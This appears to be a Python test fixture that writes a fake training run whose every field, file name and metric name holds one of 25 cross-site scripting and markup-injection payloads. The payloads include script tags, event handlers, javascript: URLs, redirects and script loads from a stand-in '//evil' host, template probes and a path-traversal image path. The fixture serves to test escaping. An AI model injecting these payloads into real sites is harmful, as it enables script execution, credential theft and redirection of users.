"""Texts that a page could be made to act on, and a run that has them in every field."""

import json
from pathlib import Path

from pages_for_tests import PICTURE, row, write_run

# What a browser could be made to do, in 25 ways.
ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "'\"><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<base href=//evil/>",
    "<form action=//evil><input name=q></form>",
    "<object data=//evil></object><embed src=//evil>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>--><script>alert(1)</script>",
    "]]><![CDATA[<script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "</div></section></article></main></body></html><p>",
    "<xmp><plaintext><textarea>",
)
# Alone, at the end of words, within quotes, and over two lines.
STRINGS = [
    shape.format(attack)
    for attack in (a.replace("{", "{{").replace("}", "}}") for a in ATTACKS)
    for shape in (attack, f"how many? {attack}", f"\"{attack}' ", f"a\n{attack}\tb")
]


def write_hostile_run(parent: Path) -> Path:
    """Writes a run whose every text, name of a file and number's name is one of STRINGS."""
    rows = [
        row(
            i,
            sample=0,
            id=f"{i} {s}",
            source=s,
            prompt=s,
            answer=s,
            completion=s,
            extracted=s,
            reason=s,
            problem=s,
            terms={s: 1.0},
            images=[s, f"images/../../{s}", PICTURE],
        )
        for i, s in enumerate(STRINGS)
    ]
    metrics = [
        {
            "stage": s,
            "step": i,
            "reward": 0.1 * i,
            f"accuracy/{s}": 0.5,
            f"alarm/{s}": 1,
        }
        for s in STRINGS
        for i in range(2)
    ]
    # A file is called as its stage; no name has a slash.
    hostile = [s.replace("/", "") for s in ATTACKS]
    files = {f"{s}_000001": rows[:1] for s in hostile} | {"grpo_000000": rows}
    workdir = write_run(parent / "<img src=x onerror=alert(1)>", files, metrics)
    drop = {"stage": STRINGS[0], "source": STRINGS[2], "reason": "json"}
    drops = [json.dumps({**drop, "id": s, "detail": s}) + "\n" for s in STRINGS]
    (workdir / "drops.jsonl").write_text("".join(drops))
    (workdir / "run.json").write_text(json.dumps({s: s for s in STRINGS}))
    return workdir
